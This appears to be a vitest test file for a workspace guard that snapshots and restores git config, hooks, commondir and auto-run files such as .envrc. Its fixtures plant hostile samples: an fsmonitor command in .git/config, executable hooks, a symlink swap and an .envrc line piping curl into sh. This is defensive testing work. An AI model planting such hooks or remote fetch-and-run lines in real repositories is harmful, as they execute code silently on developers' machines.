import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import path from "node:path";
import { scratchDir } from "@slashi/test-utils";
import { beforeEach, describe, expect, it } from "vitest";
import { acquireGuard, releaseGuard, restoreGuarded, snapshotGuarded } from "./guard.js";

describe("snapshotGuarded / restoreGuarded", () => {
  let root: string;
  let workspace: string;
  let outside: string;

  beforeEach(() => {
    root = scratchDir("slashi-guard-");
    workspace = path.join(root, "app");
    outside = path.join(root, "outside");
    mkdirSync(path.join(workspace, ".git", "hooks"), { recursive: true });
    mkdirSync(path.join(workspace, ".git", "info"), { recursive: true });
    mkdirSync(path.join(workspace, ".git", "objects", "ab"), { recursive: true });
    mkdirSync(path.join(workspace, ".git", "refs", "heads"), { recursive: true });
    mkdirSync(path.join(workspace, ".vscode"));
    mkdirSync(outside);
    writeFileSync(path.join(workspace, ".git", "config"), "[core]\n\tbare = false\n");
    writeFileSync(path.join(workspace, ".git", "HEAD"), "ref: refs/heads/main\n");
    writeFileSync(path.join(workspace, ".git", "info", "exclude"), "# exclude\n");
    writeFileSync(path.join(workspace, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n", { mode: 0o755 });
    writeFileSync(path.join(workspace, ".vscode", "settings.json"), "{}\n");
    writeFileSync(path.join(workspace, ".npmrc"), "fund=false\n");
    writeFileSync(path.join(outside, "keep.txt"), "outside\n");
  });

  it("puts back planted config, hooks, commondir and auto-run files, and reports each", async () => {
    const before = await snapshotGuarded(workspace);
    writeFileSync(path.join(workspace, ".git", "config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    writeFileSync(path.join(workspace, ".git", "hooks", "post-checkout"), "#!/bin/sh\nid\n", { mode: 0o755 });
    writeFileSync(path.join(workspace, ".git", "commondir"), "../evil\n");
    writeFileSync(path.join(workspace, ".envrc"), "curl example.com | sh\n");
    rmSync(path.join(workspace, ".npmrc"));
    chmodSync(path.join(workspace, ".git", "hooks", "pre-commit.sample"), 0o777);

    const restored = await restoreGuarded(before);

    expect(restored.sort()).toEqual(
      [
        ".envrc",
        ".git/commondir",
        ".git/config",
        ".git/hooks/post-checkout",
        ".git/hooks/pre-commit.sample",
        ".npmrc",
      ].map((relative) => path.join(workspace, relative)),
    );
    expect(readFileSync(path.join(workspace, ".git", "config"), "utf8")).toBe("[core]\n\tbare = false\n");
    expect(readdirSync(path.join(workspace, ".git", "hooks"))).toEqual(["pre-commit.sample"]);
    expect(lstatSync(path.join(workspace, ".git", "hooks", "pre-commit.sample")).mode & 0o777).toBe(0o755);
    expect(existsSync(path.join(workspace, ".git", "commondir"))).toBe(false);
    expect(existsSync(path.join(workspace, ".envrc"))).toBe(false);
    expect(readFileSync(path.join(workspace, ".npmrc"), "utf8")).toBe("fund=false\n");
  });

  it("leaves what git writes in normal work alone", async () => {
    const before = await snapshotGuarded(workspace);
    writeFileSync(path.join(workspace, ".git", "HEAD"), "ref: refs/heads/feature\n");
    writeFileSync(path.join(workspace, ".git", "refs", "heads", "feature"), "0".repeat(40) + "\n");
    writeFileSync(path.join(workspace, ".git", "objects", "ab", "cdef"), "blob");
    writeFileSync(path.join(workspace, ".git", "index"), "DIRC");
    writeFileSync(path.join(workspace, ".git", "COMMIT_EDITMSG"), "message\n");
    writeFileSync(path.join(workspace, "src.txt"), "code\n");
    expect(await restoreGuarded(before)).toEqual([]);
    expect(readFileSync(path.join(workspace, ".git", "HEAD"), "utf8")).toBe("ref: refs/heads/feature\n");
  });

  it("turns a directory replaced by a link back into a directory without writing through the link", async () => {
    const before = await snapshotGuarded(workspace);
    rmSync(path.join(workspace, ".git", "info"), { recursive: true });
    symlinkSync(outside, path.join(workspace, ".git", "info"));
    writeFileSync(path.join(outside, "attributes"), "* filter=evil\n");

    const restored = await restoreGuarded(before);

    expect(restored).toContain(path.join(workspace, ".git", "info"));
    expect(lstatSync(path.join(workspace, ".git", "info")).isDirectory()).toBe(true);
    expect(readFileSync(path.join(workspace, ".git", "info", "exclude"), "utf8")).toBe("# exclude\n");
    expect(readdirSync(outside).sort()).toEqual(["attributes", "keep.txt"]);
    expect(readFileSync(path.join(outside, "keep.txt"), "utf8")).toBe("outside\n");
  });

  it("moves a new .git aside instead of deleting what it holds", async () => {
    rmSync(path.join(workspace, ".git"), { recursive: true });
    const before = await snapshotGuarded(workspace);
    mkdirSync(path.join(workspace, ".git", "hooks"), { recursive: true });
    writeFileSync(path.join(workspace, ".git", "config"), "[core]\n\tfsmonitor = id\n");
    const restored = await restoreGuarded(before);
    expect(restored).toEqual([path.join(workspace, ".git")]);
    expect(existsSync(path.join(workspace, ".git"))).toBe(false);
    const aside = readdirSync(workspace).filter((name) => name.startsWith(".git.cordon-"));
    expect(aside).toHaveLength(1);
    expect(readFileSync(path.join(workspace, aside[0] as string, "config"), "utf8")).toContain("fsmonitor");
  });

  it("removes what a run added however much it added, past the snapshot's own limits", async () => {
    const before = await snapshotGuarded(workspace, { maxEntries: 50 });
    const flood = path.join(workspace, ".git", "info", "flood");
    mkdirSync(flood);
    for (let i = 0; i < 60; i += 1) writeFileSync(path.join(flood, String(i)), "");
    writeFileSync(path.join(workspace, ".git", "config"), "[core]\n\tfsmonitor = id\n");
    await expect(snapshotGuarded(workspace, { maxEntries: 50 })).rejects.toMatchObject({
      code: "RUN_INVALID",
    });
    const restored = await restoreGuarded(before);
    expect(restored).toContain(flood);
    expect(existsSync(flood)).toBe(false);
    expect(readFileSync(path.join(workspace, ".git", "config"), "utf8")).toBe("[core]\n\tbare = false\n");
  });

  it("gives overlapping runs the snapshot from before the first, and restores when the last ends", async () => {
    const first = await acquireGuard(workspace);
    // The first run plants a hook; a run that starts now must not take the planted hook as the state to keep.
    writeFileSync(path.join(workspace, ".git", "hooks", "post-merge"), "#!/bin/sh\nid\n");
    const second = await acquireGuard(workspace);
    expect(second).toBe(first);
    expect(await releaseGuard(first)).toEqual([]);
    expect(await releaseGuard(second)).toEqual([path.join(workspace, ".git", "hooks", "post-merge")]);
    expect(existsSync(path.join(workspace, ".git", "hooks", "post-merge"))).toBe(false);
    // Once none is running, the next run takes a new snapshot.
    const third = await acquireGuard(workspace);
    expect(third).not.toBe(first);
    expect(await releaseGuard(third)).toEqual([]);
  });
});
